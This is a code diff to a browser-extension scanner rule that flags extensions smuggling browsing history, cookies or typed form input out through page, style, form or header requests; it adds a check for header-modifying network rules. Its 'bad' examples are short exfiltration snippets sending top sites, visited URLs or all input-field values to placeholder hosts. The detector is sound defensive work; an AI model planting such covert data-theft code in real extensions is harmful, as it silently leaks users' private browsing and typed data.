@@ -1,10 +1,10 @@
-import { apiPath, callsNamed, callsOf, constant, pattern, propertyOf, receiverOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
-import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
+import { apiPath, callsNamed, callsOf, constant, Op, pattern, propertyOf, receiverOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule, type Hit } from '../../rule.ts';
+import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
-import { leadsOut } from './network.ts';
+import { hostOf, leadsOut, requestsOf } from './network.ts';
 import { originsOf } from './origins.ts';
-import { few } from './usage.ts';
+import { few, itemsOf } from './usage.ts';
 
 const SOURCES = ['chrome.history.search', 'chrome.history.getVisits', 'chrome.bookmarks.getTree', 'chrome.bookmarks.search', 'chrome.topSites.get', 'chrome.cookies.get', 'chrome.cookies.getAll', 'chrome.cookies.onChanged.addListener', 'chrome.tabs.onUpdated.addListener', 'chrome.tabs.onActivated.addListener', 'chrome.webNavigation.onCompleted.addListener', 'chrome.webNavigation.onCommitted.addListener', 'chrome.sessions.getRecentlyClosed', 'chrome.management.getAll', 'chrome.downloads.search'];
 
@@ -20,6 +20,7 @@ export const browsingDataSmuggled = defineRule({
   why: 'What a person does or types stands in the address of a page, picture, style or form that is opened. Requests of that kind are easily overlooked, and chosen for that.',
   remedy: 'Send nothing that is not needed, and what is needed by an open request of the extension.',
   check: checkScripts(function* ({ script, hit }) {
+    yield* headers(script, hit);
     const taken = new Set(callsOf(script, ...SOURCES).map((call) => call.value));
     const typed = new Set(few(callsOf(script, 'document.querySelectorAll', 'document.getElementsByTagName'), 100).filter((call) => /\b(input|textarea|select)\b/i.test(constant(script, call.args[0] ?? 0) ?? '')).map((call) => call.value));
     if (taken.size === 0 && typed.size === 0) return;
@@ -39,14 +40,38 @@ export const browsingDataSmuggled = defineRule({
       backgroundExample('chrome.topSites.get((s) => chrome.runtime.setUninstallURL("https://bye.example/?s=" + encodeURIComponent(s.map((x) => x.url).join(","))));'),
       backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://cdn.example/" + btoa(t.url) + ".css"; document.head.append(l); });'),
       contentExample('addEventListener("beforeunload", () => { const f = document.createElement("form"); f.action = "https://save.example/p"; const a = document.createElement("input"); a.value = JSON.stringify([...document.querySelectorAll("input")].map((e) => e.value)); f.append(a); document.body.append(f); f.submit(); });'),
+      backgroundExample('chrome.runtime.onMessage.addListener(async ({ k }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "stats.x.example" }, action: { type: "modifyHeaders", requestHeaders: [{ header: "accept-language", operation: "set", value: k }] } }] }); await fetch("https://stats.x.example/p.gif"); });'),
     ],
     good: [
+      backgroundExample('chrome.runtime.onMessage.addListener(async ({ name, text }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "*" }, action: { type: "modifyHeaders", requestHeaders: [{ header: name, operation: "set", value: text }] } }] }); await fetch("https://tool.example/ping"); });'),
       backgroundExample('chrome.runtime.setUninstallURL("https://tool.example/bye?v=" + chrome.runtime.getManifest().version); chrome.history.search({ text: "" }, show);'),
       backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { if (t.url.startsWith("https://old.example/")) chrome.tabs.create({ url: "https://new.example/" }); });'),
       contentExample('const f = document.createElement("form"); f.action = "https://tool.example/search"; const q = document.createElement("input"); q.value = getSelection().toString(); f.append(q); f.submit(); document.querySelectorAll("input").forEach(style);'),
     ],
   },
 });
+
+const HEARD = ['chrome.runtime.onMessage.addListener', 'chrome.runtime.onConnect.addListener'];
+
+/** Rules of the browser that set a header to what another part of the extension found or what was taken from the browser. */
+function* headers(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
+  const calls = callsOf(script, 'chrome.declarativeNetRequest.updateSessionRules', 'chrome.declarativeNetRequest.updateDynamicRules');
+  if (calls.length === 0 || !script.strings.includes('requestHeaders')) return;
+  const from = new Set(callsOf(script, ...SOURCES, ...HEARD).map((call) => call.value));
+  for (let value = 1, looked = 0; value < script.op.length && looked < 2000; value++) {
+    if (script.op[value] !== Op.object) continue;
+    looked++;
+    for (const item of itemsOf(script, propertyOf(script, value, 'requestHeaders'))) {
+      const given = propertyOf(script, item, 'value');
+      // Only for a server that the rule names itself: settings for all sites are the person's.
+      if (given === 0 || constant(script, given) !== undefined || !calls.some((call) => originsOf(script, call.args[0] ?? 0).has(value))) continue;
+      const origins = originsOf(script, given);
+      if (![...from].some((one) => origins.has(one))) continue;
+      const host = requestsOf(script).map((request) => hostOf(request.to)).find((one) => one !== undefined && script.strings.some((text) => text.length < 100 && text.includes(one) && !text.includes('/')));
+      if (host !== undefined) yield hit(value, { message: `A rule of the browser puts it into the headers of requests to ${host}.` });
+    }
+  }
+}
 
 /** Addresses outside that the script opens other than by a request. */
 function* ways(script: ScriptFacts): Generator<{ value: number; to: string; way: string }> {
